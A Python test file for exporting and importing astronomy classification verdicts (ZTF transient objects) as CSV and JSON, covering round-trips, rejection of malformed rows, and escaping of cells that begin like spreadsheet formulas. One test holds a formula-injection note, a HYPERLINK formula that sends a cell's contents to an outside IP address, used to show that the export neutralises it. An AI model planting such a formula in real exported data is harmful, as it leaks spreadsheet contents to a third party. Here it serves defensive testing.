"""What was said goes out as a table and comes back the same, whatever is in it, and no spreadsheet is tricked by it."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheet import plain_cell, safe_cell
from core.verdicts import CONFIDENCES, KINDS, Verdict, VerdictError, VerdictStore
from core.verdicts.exchange import COLUMNS, as_csv, as_json, read_verdicts
from core.verdicts.record import checked

TEXT = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=60)
SAID = st.builds(
    lambda oid, kind, confidence, note, who, p: checked(
        Verdict(
            "x" + oid, "file-1", kind, class_name="SNIa" if kind == "class" else "", confidence=confidence, note=note,
            who=who, model="t2-ztf", probabilities={"SNIa": p, "TDE": 1 - p},
        )
    ),
    TEXT, st.sampled_from(KINDS), st.sampled_from(CONFIDENCES), TEXT, TEXT, st.floats(0, 1),
)  # fmt: skip


@given(st.lists(SAID, max_size=5), st.sampled_from([as_csv, as_json]))
def test_what_goes_out_comes_back_the_same(verdicts, write):
    back = read_verdicts(write(verdicts).encode())
    assert not back.refused
    assert sorted(back.verdicts, key=lambda v: v.uid) == sorted(verdicts, key=lambda v: v.uid)


@given(TEXT | st.from_regex(r"'*[=+@\-][a-z]*", fullmatch=True))
def test_no_cell_begins_like_a_formula_and_each_is_read_as_it_was(text):
    assert not safe_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain_cell(safe_cell(text)) == text


def test_a_note_that_is_a_formula_is_harmless_in_a_spreadsheet_and_whole_in_the_store(tmp_path):
    note = '=HYPERLINK("http://192.0.2.1/?"&A1,"look")'
    kept = VerdictStore(tmp_path / "v.sqlite").add(Verdict("ZTF20aatqesi", "ztf", "junk", note=note, who="@me"))
    cells = list(csv.reader(io.StringIO(as_csv([kept]))))[1]
    assert cells[COLUMNS.index("note")] == "'" + note and cells[COLUMNS.index("who")] == "'@me"
    assert read_verdicts(as_csv([kept]).encode()).verdicts == [kept]


def test_a_table_made_by_hand_needs_an_id_and_a_kind_alone_and_is_brought_in_once(tmp_path):
    table = b"object_id,kind,class,made_at\nZTF20aatqesi,class,SNIa,2026-11-01\nmine,junk,,2026-11-02T03:04:05Z\n"
    store = VerdictStore(tmp_path / "v.sqlite")
    found = read_verdicts(table, otherwise="file-1")
    assert [v.catalogue for v in found.verdicts] == ["ztf", "file-1"]
    assert store.add_new(found.verdicts) == (2, 0)
    assert store.add_new(read_verdicts(table, otherwise="file-1").verdicts) == (0, 2)


@pytest.mark.parametrize(
    ("row", "said"),
    [
        ("1.70587E+17,junk,", "row 2: object_id is 1.70587E+17, which a spreadsheet has rounded"),
        ("ZTF20aatqesi,perhaps,", "row 2: kind is 'perhaps'; expected one of class, unsure, junk, follow up"),
        ("ZTF20aatqesi,class,", "row 2: kind is 'class' and class is ''"),
        (",junk,", "row 2: object_id is empty"),
    ],
)
def test_a_row_that_cannot_be_read_is_named_and_the_others_live(row, said):
    found = read_verdicts(f"object_id,kind,class\n{row}\nZTF18aannern,junk,\n".encode())
    assert len(found.refused) == 1 and found.refused[0].startswith(said)
    assert [v.object_id for v in found.verdicts] == ["ZTF18aannern"]


@pytest.mark.parametrize(
    "content", [b"", b"a,b\n1,2\n", b"{}", b"{", b"\xff\xfe\x00", json.dumps({"verdicts": 3}).encode()]
)
def test_a_file_that_is_no_table_of_verdicts_is_refused_in_a_sentence(content):
    with pytest.raises(VerdictError) as error:
        read_verdicts(content)
    assert error.value.message.endswith(".")


def test_a_probability_that_is_none_is_refused_with_its_value():
    found = read_verdicts(
        b'object_id,kind,probabilities\na,junk,"{""SNIa"": 1.5}"\nb,junk,"[1]"\nc,junk,"{""SNIa"": true}"\n'
    )
    assert not found.verdicts and "1.5; expected a number from 0 to 1" in found.refused[0]
